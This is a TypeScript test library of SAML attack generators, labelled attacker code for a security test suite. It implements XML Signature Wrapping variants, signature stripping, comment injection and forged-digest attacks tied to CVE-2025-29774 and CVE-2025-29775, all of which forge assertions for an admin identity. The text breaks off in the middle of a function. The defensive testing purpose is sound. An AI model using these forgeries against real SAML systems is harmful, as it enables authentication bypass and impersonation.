/**
 * Test-side SAML attack library (attacker code — never import this from src/).
 *
 * Every function takes a legitimately signed SAML document (a string) and returns an attacked
 * variant, following /work/shared/security/attack-catalogue.md sections A (XSW), B (XML-DSig) and
 * C (parser / DoS). Each function names the catalogue id it implements.
 *
 * Rules followed throughout:
 * - elements are selected by namespaceURI + localName, never by prefix, so `saml:`, `saml2:`,
 *   pysaml2's `ns0:`/`ns1:` and default-namespace documents all work;
 * - elements we create reuse the prefix / namespace of the element they are modelled on;
 * - DOM editing with @xmldom/xmldom; plain string edits only where the attack is textual
 *   (second roots, DOCTYPEs, entity references, padding, byte encodings);
 * - a clear Error is thrown when the input lacks what the attack needs.
 */
import { createHash, createHmac, type BinaryLike, type KeyObject } from "node:crypto";
import { deflateRawSync } from "node:zlib";
import { DOMParser, XMLSerializer } from "@xmldom/xmldom";
import {
  SignedXml,
  createOptionalCallbackFunction,
  findAncestorNs,
  type SignatureAlgorithm,
} from "xml-crypto";

// ---------------------------------------------------------------------------------------------
// Constants
// ---------------------------------------------------------------------------------------------

export const NS = {
  saml: "urn:oasis:names:tc:SAML:2.0:assertion",
  samlp: "urn:oasis:names:tc:SAML:2.0:protocol",
  ds: "http://www.w3.org/2000/09/xmldsig#",
  xmlns: "http://www.w3.org/2000/xmlns/",
  xsl: "http://www.w3.org/1999/XSL/Transform",
  evil: "urn:evil",
} as const;

export const ALG = {
  envelopedSignature: "http://www.w3.org/2000/09/xmldsig#enveloped-signature",
  excC14n: "http://www.w3.org/2001/10/xml-exc-c14n#",
  excC14nWithComments: "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
  c14n: "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
  c14n11: "http://www.w3.org/2006/12/xml-c14n11",
  xslt: "http://www.w3.org/TR/1999/REC-xslt-19991116",
  xpath: "http://www.w3.org/TR/1999/REC-xpath-19991116",
  xpathFilter2: "http://www.w3.org/2002/06/xmldsig-filter2",
  base64: "http://www.w3.org/2000/09/xmldsig#base64",
  rsaSha1: "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
  rsaSha256: "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
  rsaMd5: "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
  hmacSha1: "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
  hmacSha256: "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
  hmacSha384: "http://www.w3.org/2001/04/xmldsig-more#hmac-sha384",
  hmacSha512: "http://www.w3.org/2001/04/xmldsig-more#hmac-sha512",
  sha1: "http://www.w3.org/2000/09/xmldsig#sha1",
  sha256: "http://www.w3.org/2001/04/xmlenc#sha256",
  sha384: "http://www.w3.org/2001/04/xmldsig-more#sha384",
  sha512: "http://www.w3.org/2001/04/xmlenc#sha512",
  md5: "http://www.w3.org/2001/04/xmldsig-more#md5",
} as const;

export const EVIL_NAME_ID = "admin@example.com";
export const EVIL_RESPONSE_ID = "_evil_response_ID";
export const EVIL_ASSERTION_ID = "_evil_assertion_ID";
export const DEFAULT_CANARY = "http://canary.invalid";

// ---------------------------------------------------------------------------------------------
// DOM helpers (internal)
// ---------------------------------------------------------------------------------------------

const ELEMENT_NODE = 1;

function fail(fn: string, what: string): never {
  throw new Error(`attacks.${fn}: ${what}`);
}

/** Strict parse: any xmldom warning/error/fatalError throws. */
function parse(xml: string, fn: string): Document {
  const report = (level: string) => (msg: unknown) => {
    throw new Error(`attacks.${fn}: input is not well-formed XML (${level}): ${String(msg)}`);
  };
  const doc = new DOMParser({
    errorHandler: { warning: report("warning"), error: report("error"), fatalError: report("fatalError") },
  }).parseFromString(xml, "text/xml");
  if (!doc.documentElement) fail(fn, "input has no root element");
  return doc;
}

function serialize(node: Node): string {
  return new XMLSerializer().serializeToString(node);
}

function isElement(n: Node | null | undefined): n is Element {
  return n != null && n.nodeType === ELEMENT_NODE;
}

function is(el: Element, ns: string, local: string): boolean {
  return el.namespaceURI === ns && el.localName === local;
}

function root(doc: Document): Element {
  const r = doc.documentElement;
  if (!r) throw new Error("attacks: document has no root element");
  return r;
}

function childElements(el: Node): Element[] {
  const out: Element[] = [];
  for (let i = 0; i < el.childNodes.length; i++) {
    const c = el.childNodes.item(i);
    if (isElement(c)) out.push(c);
  }
  return out;
}

function childrenNS(el: Element, ns: string, local: string): Element[] {
  return childElements(el).filter((c) => is(c, ns, local));
}

function childNS(el: Element, ns: string, local: string): Element | undefined {
  return childrenNS(el, ns, local)[0];
}

/** All elements (including `start` itself when it is an element) in document order. */
function descendantsNS(start: Node, ns: string, local: string): Element[] {
  const out: Element[] = [];
  const stack: Node[] = [start];
  while (stack.length > 0) {
    const n = stack.pop() as Node;
    if (isElement(n) && is(n, ns, local)) out.push(n);
    const kids = childElements(n);
    for (let i = kids.length - 1; i >= 0; i--) stack.push(kids[i] as Element);
  }
  return out;
}

function firstNS(start: Node, ns: string, local: string, fn: string, what?: string): Element {
  const el = descendantsNS(start, ns, local)[0];
  if (!el) fail(fn, `input has no ${what ?? `{${ns}}${local}`} element`);
  return el;
}

function qname(like: Element, local: string): string {
  return like.prefix ? `${like.prefix}:${local}` : local;
}

/** New element in the namespace of `like`, with the same prefix. */
function createLike(doc: Document, like: Element, local: string): Element {
  return doc.createElementNS(like.namespaceURI, qname(like, local));
}

/**
 * New element in no namespace (SAMLRaider's `createElement`). When a default namespace is in scope
 * at `context`, an explicit `xmlns=""` is added so the element really is unqualified after
 * serialization (xmldom 0.8 would otherwise let it inherit the default namespace).
 */
function createUnqualified(doc: Document, context: Element, name: string): Element {
  const el = doc.createElementNS(null, name);
  if (context.lookupNamespaceURI("")) el.setAttributeNS(NS.xmlns, "xmlns", "");
  return el;
}

function insertAfter(node: Node, ref: Node): void {
  const parent = ref.parentNode;
  if (!parent) throw new Error("attacks: reference node has no parent");
  parent.insertBefore(node, ref.nextSibling);
}

function cloneEl(el: Element): Element {
  return el.cloneNode(true) as Element;
}

function setText(el: Element, text: string): void {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(el.ownerDocument.createTextNode(text));
}

function removeDirectSignatures(el: Element): number {
  const sigs = childrenNS(el, NS.ds, "Signature");
  for (const s of sigs) el.removeChild(s);
  return sigs.length;
}

function parentElement(n: Node): Element | undefined {
  const p = n.parentNode;
  return isElement(p) ? p : undefined;
}

/** Sets every saml:NameID inside `scope` to `value` (the "evil" identity). */
function setNameIds(scope: Element, value: string, fn: string): void {
  const ids = descendantsNS(scope, NS.saml, "NameID");
  if (ids.length === 0) fail(fn, "the element to forge contains no saml:NameID");
  for (const id of ids) setText(id, value);
}

function requireResponseRoot(doc: Document, fn: string): Element {
  const r = root(doc);
  if (!is(r, NS.samlp, "Response")) {
    fail(fn, `root element must be samlp:Response, got {${r.namespaceURI ?? ""}}${r.localName}`);
  }
  return r;
}

/** The first saml:Assertion child of the Response that has its own ds:Signature child. */
function signedAssertionInResponse(
  doc: Document,
  fn: string,
): { response: Element; assertion: Element; signature: Element } {
  const response = requireResponseRoot(doc, fn);
  for (const assertion of childrenNS(response, NS.saml, "Assertion")) {
    const signature = childNS(assertion, NS.ds, "Signature");
    if (signature) return { response, assertion, signature };
  }
  return fail(fn, "samlp:Response has no saml:Assertion child carrying its own ds:Signature");
}

function signedAssertionRoot(doc: Document, fn: string): { assertion: Element; signature: Element } {
  const assertion = root(doc);
  if (!is(assertion, NS.saml, "Assertion")) fail(fn, "root element must be a saml:Assertion (bare assertion)");
  const signature = childNS(assertion, NS.ds, "Signature");
  if (!signature) fail(fn, "root saml:Assertion has no ds:Signature child");
  return { assertion, signature };
}

/**
 * The signature the B-section attacks tamper with: the first ds:Signature whose parent is a
 * saml:Assertion (the identity-bearing one), otherwise the first ds:Signature in the document.
 */
function primarySignature(doc: Document, fn: string): Element {
  const sigs = descendantsNS(doc, NS.ds, "Signature");
  const sig = sigs.find((s) => {
    const p = parentElement(s);
    return p !== undefined && is(p, NS.saml, "Assertion");
  }) ?? sigs[0];
  if (!sig) fail(fn, "input has no ds:Signature");
  return sig;
}

function signedInfoOf(sig: Element, fn: string): Element {
  const si = childNS(sig, NS.ds, "SignedInfo");
  if (!si) fail(fn, "ds:Signature has no ds:SignedInfo child");
  return si;
}

function referencesOf(si: Element): Element[] {
  return childrenNS(si, NS.ds, "Reference");
}

function firstReference(sig: Element, fn: string): Element {
  const ref = referencesOf(signedInfoOf(sig, fn))[0];
  if (!ref) fail(fn, "ds:SignedInfo has no ds:Reference");
  return ref;
}

function getOrCreateTransforms(ref: Element): Element {
  const existing = childNS(ref, NS.ds, "Transforms");
  if (existing) return existing;
  const t = createLike(ref.ownerDocument, ref, "Transforms");
  ref.insertBefore(t, ref.firstChild);
  return t;
}

function newTransform(transforms: Element, algorithm: string): Element {
  const t = createLike(transforms.ownerDocument, transforms, "Transform");
  t.setAttribute("Algorithm", algorithm);
  return t;
}

function idOf(el: Element): string | undefined {
  for (const a of ["ID", "Id", "id"]) {
    const v = el.getAttribute(a);
    if (v) return v;
  }
  return undefined;
}

function findById(doc: Document, id: string): { el: Element; attr: string } | undefined {
  const stack: Node[] = [doc];
  while (stack.length > 0) {
    const n = stack.pop() as Node;
    if (isElement(n)) {
      for (const attr of ["ID", "Id", "id"]) {
        if (n.getAttribute(attr) === id) return { el: n, attr };
      }
    }
    const kids = childElements(n);
    for (let i = kids.length - 1; i >= 0; i--) stack.push(kids[i] as Element);
  }
  return undefined;
}

function uniqueMarker(): string {
  return `FEDBRIDGEMARKER${Math.random().toString(36).slice(2)}${Date.now().toString(36)}`;
}

/** `<?xml …?>` at the very start, if any, and the rest. */
function splitDecl(xml: string): { decl: string; body: string } {
  const m = /^\uFEFF?<\?xml[^?]*\?>/.exec(xml);
  if (!m) return { decl: "", body: xml };
  return { decl: m[0], body: xml.slice(m[0].length) };
}

function insertAfterDecl(xml: string, text: string): string {
  const { decl, body } = splitDecl(xml);
  return decl ? `${decl}\n${text}${body}` : `${text}${body.replace(/^\s+/, "")}`;
}

function hashName(digestUri: string, fn: string): string {
  switch (digestUri) {
    case ALG.sha1:
      return "sha1";
    case ALG.sha256:
      return "sha256";
    case ALG.sha384:
      return "sha384";
    case ALG.sha512:
      return "sha512";
    case ALG.md5:
      return "md5";
    default:
      return fail(fn, `unsupported DigestMethod ${digestUri}`);
  }
}

/**
 * Computes the digest a verifier would compute for `ref` applied to `node`: the Reference's
 * transforms (the enveloped transform removes `node`'s own ds:Signature child), then its digest.
 */
function computeReferenceDigest(doc: Document, node: Element, ref: Element, fn: string): string {
  const transformsEl = childNS(ref, NS.ds, "Transforms");
  const transforms = transformsEl
    ? childrenNS(transformsEl, NS.ds, "Transform").map((t) => t.getAttribute("Algorithm") ?? "")
    : [ALG.c14n];
  let prefixList: string[] = [];
  for (const t of transformsEl ? childrenNS(transformsEl, NS.ds, "Transform") : []) {
    for (const c of childElements(t)) {
      if (c.localName === "InclusiveNamespaces") {
        prefixList = (c.getAttribute("PrefixList") ?? "").split(/\s+/).filter(Boolean);
      }
    }
  }
  const digestMethod = childNS(ref, NS.ds, "DigestMethod");
  if (!digestMethod) fail(fn, "ds:Reference has no ds:DigestMethod");
  const hash = hashName(digestMethod.getAttribute("Algorithm") ?? "", fn);
  const id = idOf(node);
  const ancestorNamespaces =
    id && !/['"]/.test(id) ? findAncestorNs(doc, `//*[@*[local-name(.)='ID' or local-name(.)='Id' or local-name(.)='id']='${id}']`) : [];
  const canon = new SignedXml().getCanonXml(transforms, node, {
    inclusiveNamespacesPrefixList: prefixList,
    ancestorNamespaces,
  });
  return createHash(hash).update(canon, "utf8").digest("base64");
}

function textualEntityInNameId(doc: Document, entityRef: string, fn: string): string {
  const nameId = firstNS(doc, NS.saml, "NameID", fn, "saml:NameID");
  const marker = uniqueMarker();
  setText(nameId, marker);
  return serialize(doc).replace(marker, entityRef);
}

// ---------------------------------------------------------------------------------------------
// Small generic helpers (also useful to the D-section semantic tests)
// ---------------------------------------------------------------------------------------------

/**
 * Helper (A/B11/B22 payloads): an unsigned copy of the document with every ds:Signature removed
 * and every saml:NameID set to `evilNameId`.
 */
export function unsignedEvilCopy(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  const doc = parse(xml, "unsignedEvilCopy");
  for (const s of descendantsNS(doc, NS.ds, "Signature")) s.parentNode?.removeChild(s);
  setNameIds(root(doc), evilNameId, "unsignedEvilCopy");
  return serialize(doc);
}

/** D-section helper: removes the first {nsUri}localName element (document order). */
export function removeElement(xml: string, nsUri: string, localName: string): string {
  const doc = parse(xml, "removeElement");
  const el = firstNS(doc, nsUri, localName, "removeElement");
  const parent = el.parentNode;
  if (!parent || parent === doc) fail("removeElement", "refusing to remove the root element");
  parent.removeChild(el);
  return serialize(doc);
}

/**
 * D-section helper: sets (or, with `value === null`, removes) attribute `attr` on the first
 * {nsUri}localName element.
 */
export function setAttr(
  xml: string,
  nsUri: string,
  localName: string,
  attr: string,
  value: string | null,
): string {
  const doc = parse(xml, "setAttr");
  const el = firstNS(doc, nsUri, localName, "setAttr");
  if (value === null) el.removeAttribute(attr);
  else el.setAttribute(attr, value);
  return serialize(doc);
}

// ---------------------------------------------------------------------------------------------
// A. XML Signature Wrapping
// ---------------------------------------------------------------------------------------------

function responseSignedXsw(xml: string, evilNameId: string, fn: string, mode: "in-signature" | "sibling"): string {
  const doc = parse(xml, fn);
  const response = requireResponseRoot(doc, fn);
  const signature = childNS(response, NS.ds, "Signature");
  if (!signature) fail(fn, "samlp:Response is not signed (no ds:Signature child); XSW1/2 need B-S2R-r");
  const clean = cloneEl(response);
  removeDirectSignatures(clean);
  setNameIds(response, evilNameId, fn);
  response.setAttribute("ID", EVIL_RESPONSE_ID);
  if (mode === "in-signature") signature.appendChild(clean);
  else response.insertBefore(clean, signature);
  return serialize(doc);
}

/**
 * A1 — XSW1: the Response becomes the evil one (`ID="_evil_response_ID"`, evil NameID); a clean
 * copy of the original signed Response (its Signature removed) is appended inside the ds:Signature.
 */
export function xsw1(signedResponseXml: string, evilNameId: string = EVIL_NAME_ID): string {
  return responseSignedXsw(signedResponseXml, evilNameId, "xsw1", "in-signature");
}

/** A2 — XSW2: as XSW1 but the clean copy is inserted as the preceding sibling of ds:Signature. */
export function xsw2(signedResponseXml: string, evilNameId: string = EVIL_NAME_ID): string {
  return responseSignedXsw(signedResponseXml, evilNameId, "xsw2", "sibling");
}

/** Unsigned evil clone of a signed assertion: Signature removed, evil NameID, optional new ID. */
function evilAssertionClone(assertion: Element, evilNameId: string, fn: string, newId?: string): Element {
  const e = cloneEl(assertion);
  removeDirectSignatures(e);
  if (newId !== undefined) e.setAttribute("ID", newId);
  setNameIds(e, evilNameId, fn);
  return e;
}

/**
 * A3 — XSW3: evil copy of the assertion (`ID="_evil_assertion_ID"`, no Signature, evil NameID)
 * inserted before the original signed assertion.
 */
export function xsw3(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  const doc = parse(xml, "xsw3");
  const { response, assertion } = signedAssertionInResponse(doc, "xsw3");
  response.insertBefore(evilAssertionClone(assertion, evilNameId, "xsw3", EVIL_ASSERTION_ID), assertion);
  return serialize(doc);
}

/** A4 — XSW4: evil copy appended to the Response, and the original signed assertion moved inside it. */
export function xsw4(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  const doc = parse(xml, "xsw4");
  const { response, assertion } = signedAssertionInResponse(doc, "xsw4");
  const evil = evilAssertionClone(assertion, evilNameId, "xsw4", EVIL_ASSERTION_ID);
  response.appendChild(evil);
  evil.appendChild(assertion);
  return serialize(doc);
}

/**
 * A5 — XSW5: the original is edited in place (evil NameID, `ID="_evil_assertion_ID"`, keeps its
 * Signature); a clean copy (still the original ID, Signature removed) is appended to the Response.
 */
export function xsw5(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  const doc = parse(xml, "xsw5");
  const { response, assertion } = signedAssertionInResponse(doc, "xsw5");
  const clean = cloneEl(assertion);
  removeDirectSignatures(clean);
  setNameIds(assertion, evilNameId, "xsw5");
  assertion.setAttribute("ID", EVIL_ASSERTION_ID);
  response.appendChild(clean);
  return serialize(doc);
}

/** A6 — XSW6: as XSW5 but the clean copy goes inside the original ds:Signature. */
export function xsw6(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  const doc = parse(xml, "xsw6");
  const { assertion, signature } = signedAssertionInResponse(doc, "xsw6");
  const clean = cloneEl(assertion);
  removeDirectSignatures(clean);
  setNameIds(assertion, evilNameId, "xsw6");
  assertion.setAttribute("ID", EVIL_ASSERTION_ID);
  signature.appendChild(clean);
  return serialize(doc);
}

/**
 * A7 — XSW7 (SAMLRaider form): an UNQUALIFIED `<Extensions>` inserted before the signed assertion,
 * holding an evil copy with the SAME ID (Signature removed, evil NameID).
 */
export function xsw7(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  const doc = parse(xml, "xsw7");
  const { response, assertion } = signedAssertionInResponse(doc, "xsw7");
  const ext = createUnqualified(doc, response, "Extensions");
  response.insertBefore(ext, assertion);
  ext.appendChild(evilAssertionClone(assertion, evilNameId, "xsw7"));
  return serialize(doc);
}

/** samlp:Extensions of the Response, created at its schema position when absent. */
function responseExtensions(doc: Document, response: Element): Element {
  const existing = childNS(response, NS.samlp, "Extensions");
  if (existing) return existing;
  const ext = createLike(doc, response, "Extensions");
  // StatusResponseType: Issuer?, Signature?, Extensions?, Status
  let after: Element | undefined;
  for (const c of childElements(response)) {
    if (is(c, NS.saml, "Issuer") || is(c, NS.ds, "Signature")) after = c;
    else break;
  }
  if (after) insertAfter(ext, after);
  else response.insertBefore(ext, response.firstChild);
  return ext;
}

/**
 * A7 — XSW7, qualified variant: the evil same-ID copy goes into a `samlp:Extensions` element
 * (Response's prefix) at its schema-valid position (after Issuer/Signature, before Status).
 */
export function xsw7Qualified(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  const doc = parse(xml, "xsw7Qualified");
  const { response, assertion } = signedAssertionInResponse(doc, "xsw7Qualified");
  const evil = evilAssertionClone(assertion, evilNameId, "xsw7Qualified");
  responseExtensions(doc, response).appendChild(evil);
  return serialize(doc);
}

function xsw8Impl(xml: string, evilNameId: string, fn: string, qualified: boolean): string {
  const doc = parse(xml, fn);
  const { assertion, signature } = signedAssertionInResponse(doc, fn);
  const clean = cloneEl(assertion);
  removeDirectSignatures(clean);
  setNameIds(assertion, evilNameId, fn);
  const obj = qualified ? createLike(doc, signature, "Object") : createUnqualified(doc, signature, "Object");
  signature.appendChild(obj);
  obj.appendChild(clean);
  return serialize(doc);
}

/**
 * A8 — XSW8 (SAMLRaider form): assertion edited in place to the evil NameID (keeps ID and
 * Signature); an UNQUALIFIED `<Object>` appended to its ds:Signature holds a clean copy (same ID).
 */
export function xsw8(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  return xsw8Impl(xml, evilNameId, "xsw8", false);
}

/** A8 — XSW8, qualified variant: the clean copy is wrapped in `ds:Object` (Signature's prefix). */
export function xsw8Qualified(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  return xsw8Impl(xml, evilNameId, "xsw8Qualified", true);
}

export interface BareAssertionWrappings {
  /** Evil root assertion (`_evil_assertion_ID`, evil NameID) with the original signed assertion as its last child. */
  wrapInEvilRoot: string;
  /** Evil root assertion with the original signed assertion inside its `saml:Advice` (cf. catalogue 0.3.2 / E3). */
  adviceWrapped: string;
  /** Root edited to evil (`_evil_assertion_ID`, keeps its Signature); clean copy with the original ID in `ds:Object` of that Signature (A8b). */
  objectWrapped: string;
}

/** saml:Advice of `assertion`, created at its schema position (after Conditions / Subject / Signature / Issuer). */
function adviceOf(doc: Document, assertion: Element): Element {
  const existing = childNS(assertion, NS.saml, "Advice");
  if (existing) return existing;
  const advice = createLike(doc, assertion, "Advice");
  let after: Element | undefined;
  for (const c of childElements(assertion)) {
    if (
      is(c, NS.saml, "Issuer") ||
      is(c, NS.ds, "Signature") ||
      is(c, NS.saml, "Subject") ||
      is(c, NS.saml, "Conditions")
    ) {
      after = c;
    } else break;
  }
  if (after) insertAfter(advice, after);
  else assertion.insertBefore(advice, assertion.firstChild);
  return advice;
}

/**
 * A3/A4/A8 for a BARE signed assertion (B-S2, the RFC 8693 saml2 token type): three wrappings.
 */
export function xswBareAssertion(
  signedAssertionXml: string,
  evilNameId: string = EVIL_NAME_ID,
): BareAssertionWrappings {
  const fn = "xswBareAssertion";
  const wrap = (inAdvice: boolean): string => {
    const doc = parse(signedAssertionXml, fn);
    const { assertion } = signedAssertionRoot(doc, fn);
    const evil = evilAssertionClone(assertion, evilNameId, fn, EVIL_ASSERTION_ID);
    doc.replaceChild(evil, assertion);
    if (inAdvice) adviceOf(doc, evil).appendChild(assertion);
    else evil.appendChild(assertion);
    return serialize(doc);
  };
  const objectWrapped = (): string => {
    const doc = parse(signedAssertionXml, fn);
    const { assertion, signature } = signedAssertionRoot(doc, fn);
    const clean = cloneEl(assertion);
    removeDirectSignatures(clean);
    setNameIds(assertion, evilNameId, fn);
    assertion.setAttribute("ID", EVIL_ASSERTION_ID);
    const obj = createLike(doc, signature, "Object");
    signature.appendChild(obj);
    obj.appendChild(clean);
    return serialize(doc);
  };
  return { wrapInEvilRoot: wrap(false), adviceWrapped: wrap(true), objectWrapped: objectWrapped() };
}

/**
 * A10 — puts an unsigned assertion into `saml:Advice` of the signed assertion. This changes the
 * signed bytes (digest breaks) unless the caller re-signs afterwards; the test decides.
 * Without `evilAssertionXml`, an evil copy of the signed assertion is used
 * (`ID="_evil_advice_assertion"`, Signature removed, NameID `admin@example.com`).
 */
export function adviceAssertion(xml: string, evilAssertionXml?: string): string {
  const fn = "adviceAssertion";
  const doc = parse(xml, fn);
  const sigs = descendantsNS(doc, NS.ds, "Signature");
  const signedParent = sigs.map(parentElement).find((p) => p !== undefined && is(p, NS.saml, "Assertion"));
  const target = signedParent ?? firstNS(doc, NS.saml, "Assertion", fn, "saml:Assertion");
  const evil =
    evilAssertionXml === undefined
      ? evilAssertionClone(target, EVIL_NAME_ID, fn, "_evil_advice_assertion")
      : doc.importNode(root(parse(evilAssertionXml, fn)), true);
  adviceOf(doc, target).appendChild(evil);
  return serialize(doc);
}

/**
 * A11 — namespace-confused sibling: `<evil:Assertion xmlns:evil="urn:evil" ID="_e">` carrying a
 * copy of the signed assertion's content with the evil NameID, inserted before it in the Response.
 */
export function namespaceConfusedSibling(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  const fn = "namespaceConfusedSibling";
  const doc = parse(xml, fn);
  const response = requireResponseRoot(doc, fn);
  const assertions = childrenNS(response, NS.saml, "Assertion");
  const original = assertions.find((a) => childNS(a, NS.ds, "Signature")) ?? assertions[0];
  if (!original) fail(fn, "samlp:Response has no saml:Assertion child");
  const evil = doc.createElementNS(NS.evil, "evil:Assertion");
  for (let i = 0; i < original.attributes.length; i++) {
    const a = original.attributes.item(i);
    if (a && a.namespaceURI !== NS.xmlns && a.name !== "ID") evil.setAttribute(a.name, a.value);
  }
  evil.setAttribute("ID", "_e");
  for (const c of childElements(original)) {
    if (!is(c, NS.ds, "Signature")) evil.appendChild(c.cloneNode(true));
  }
  setNameIds(evil, evilNameId, fn);
  response.insertBefore(evil, original);
  return serialize(doc);
}

// ---------------------------------------------------------------------------------------------
// B. XML-DSig processing
// ---------------------------------------------------------------------------------------------

/** B1 — removes every ds:Signature. */
export function stripSignatures(xml: string): string {
  const doc = parse(xml, "stripSignatures");
  const sigs = descendantsNS(doc, NS.ds, "Signature");
  if (sigs.length === 0) fail("stripSignatures", "input has no ds:Signature");
  for (const s of sigs) s.parentNode?.removeChild(s);
  return serialize(doc);
}

/** B1/D tamper — sets the text of the first saml:NameID (document order) without re-signing. */
export function setNameId(xml: string, value: string): string {
  const doc = parse(xml, "setNameId");
  setText(firstNS(doc, NS.saml, "NameID", "setNameId", "saml:NameID"), value);
  return serialize(doc);
}

function attributeValueEl(doc: Document, attrName: string, fn: string, create: boolean): Element {
  const attr = descendantsNS(doc, NS.saml, "Attribute").find((a) => a.getAttribute("Name") === attrName);
  if (!attr) fail(fn, `no saml:Attribute with Name="${attrName}"`);
  const existing = childNS(attr, NS.saml, "AttributeValue");
  if (existing) return existing;
  if (!create) fail(fn, `saml:Attribute "${attrName}" has no saml:AttributeValue`);
  const v = createLike(doc, attr, "AttributeValue");
  attr.appendChild(v);
  return v;
}

/** Tamper — sets the first AttributeValue of saml:Attribute[@Name=attrName] (created if missing). */
export function setAttributeValue(xml: string, attrName: string, value: string): string {
  const doc = parse(xml, "setAttributeValue");
  setText(attributeValueEl(doc, attrName, "setAttributeValue", true), value);
  return serialize(doc);
}

function splitWithComment(el: Element, at: number, fn: string): void {
  const text = el.textContent ?? "";
  if (!Number.isInteger(at) || at < 0 || at > text.length) {
    fail(fn, `index ${at} is outside the text "${text}" (length ${text.length})`);
  }
  const doc = el.ownerDocument;
  while (el.firstChild) el.removeChild(el.firstChild);
  if (at > 0) el.appendChild(doc.createTextNode(text.slice(0, at)));
  el.appendChild(doc.createComment(""));
  if (at < text.length) el.appendChild(doc.createTextNode(text.slice(at)));
}

/**
 * B12 — inserts `<!---->` into the first saml:NameID's text at index `at`. Under exc-c14n without
 * comments the digest is unchanged, so the signature stays valid.
 */
export function commentInNameId(xml: string, at: number): string {
  const doc = parse(xml, "commentInNameId");
  splitWithComment(firstNS(doc, NS.saml, "NameID", "commentInNameId", "saml:NameID"), at, "commentInNameId");
  return serialize(doc);
}

/** B12 — as commentInNameId, inside the first AttributeValue of saml:Attribute[@Name=attrName]. */
export function commentInAttributeValue(xml: string, attrName: string, at: number): string {
  const doc = parse(xml, "commentInAttributeValue");
  splitWithComment(attributeValueEl(doc, attrName, "commentInAttributeValue", false), at, "commentInAttributeValue");
  return serialize(doc);
}

/**
 * B7 ("SAMLStorm") core. The element signed by the primary signature is forged in place (evil
 * NameID, new ID); a clean copy of it (Signature removed, original ID) is appended to the root
 * inside an unknown `<a>` wrapper, so the ORIGINAL SignedInfo/SignatureValue still verify against
 * it; a second SignedInfo whose Reference points at the forged element, with a correctly computed
 * digest, is added to the Signature (after the original, or wrapped in `<WRAPPER>` before it).
 */
function samlStorm(xml: string, evilNameId: string, fn: string, wrapped: boolean): string {
  const doc = parse(xml, fn);
  const sig = primarySignature(doc, fn);
  const forged = parentElement(sig);
  if (!forged) fail(fn, "ds:Signature has no parent element");
  const si = signedInfoOf(sig, fn);
  firstReference(sig, fn);
  const docRoot = root(doc);

  const genuine = cloneEl(forged);
  removeDirectSignatures(genuine);
  setNameIds(forged, evilNameId, fn);
  const forgedId = is(forged, NS.samlp, "Response") ? EVIL_RESPONSE_ID : EVIL_ASSERTION_ID;
  forged.setAttribute("ID", forgedId);
  const holder = createUnqualified(doc, docRoot, "a");
  holder.appendChild(genuine);
  docRoot.appendChild(holder);

  const si2 = cloneEl(si);
  const refs2 = referencesOf(si2);
  for (const extra of refs2.slice(1)) si2.removeChild(extra);
  const ref2 = refs2[0] as Element;
  ref2.setAttribute("URI", `#${forgedId}`);
  if (wrapped) {
    const w = createUnqualified(doc, sig, "WRAPPER");
    w.appendChild(si2);
    sig.insertBefore(w, si);
  } else {
    insertAfter(si2, si);
  }
  const dv = childNS(ref2, NS.ds, "DigestValue");
  if (!dv) fail(fn, "ds:Reference has no ds:DigestValue");
  setText(dv, computeReferenceDigest(doc, forged, ref2, fn));
  return serialize(doc);
}

/** B7 — CVE-2025-29774: a second ds:SignedInfo (freshly digested forged Reference) in the Signature. */
export function duplicateSignedInfo(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  return samlStorm(xml, evilNameId, "duplicateSignedInfo", false);
}

/** B7 variant — the extra ds:SignedInfo wrapped in an unknown `<WRAPPER>` element before the real one. */
export function wrappedSignedInfo(xml: string, evilNameId: string = EVIL_NAME_ID): string {
  return samlStorm(xml, evilNameId, "wrappedSignedInfo", true);
}

export interface DigestValueCommentOptions {
  /**
   * "original-in-comment" (default, catalogue B8): `<!--ORIGINAL-->FORGED`.
   * "forged-in-comment" (the reverse order): `<!--FORGED-->ORIGINAL`.
   * "cdata-split": no forgery, the original digest split as `text<![CDATA[text]]>`.
   */
  order?: "original-in-comment" | "forged-in-comment" | "cdata-split";
  evilNameId?: string;
}

/**
 * B8 — CVE-2025-29775: comment inside ds:DigestValue. The signed element is forged (evil NameID)
 * and FORGED is the correct digest of the forged element.
 */
export function digestValueComment(xml: string, options: DigestValueCommentOptions = {}): string {
  const fn = "digestValueComment";
  const order = options.order ?? "original-in-comment";
  const doc = parse(xml, fn);
  const sig = primarySignature(doc, fn);
  const ref = firstReference(sig, fn);
  const dv = childNS(ref, NS.ds, "DigestValue");
  if (!dv) fail(fn, "ds:Reference has no ds:DigestValue");
  const original = (dv.textContent ?? "").trim();
  while (dv.firstChild) dv.removeChild(dv.firstChild);
  if (order === "cdata-split") {
    const k = Math.floor(original.length / 2);
    dv.appendChild(doc.createTextNode(original.slice(0, k)));
    dv.appendChild(doc.createCDATASection(original.slice(k)));
    return serialize(doc);
  }
  const signed = parentElement(sig);
  if (!signed) fail(fn, "ds:Signature has no parent element");
  setNameIds(signed, options.evilNameId ?? EVIL_NAME_ID, fn);
  const forged = computeReferenceDigest(doc, signed, ref, fn);
  const [inComment, asText] = order === "original-in-comment" ? [original, forged] : [forged, original];
  dv.appendChild(doc.createComment(inComment));
  dv.appendChild(doc.createTextNode(asText));
  return serialize(doc);
}

function signatureValueEl(doc: Document, fn: string): Element {
  const sv = childNS(primarySignature(doc, fn), NS.ds, "SignatureValue");
  if (!sv) fail(fn, "ds:Signature has no ds:SignatureValue");
  return sv;
}

/** B2 — `<ds:SignatureValue></ds:SignatureValue>`. */
export function emptySignatureValue(xml: string): string {
  const doc = parse(xml, "emptySignatureValue");
  const sv = signatureValueEl(doc, "emptySignatureValue");
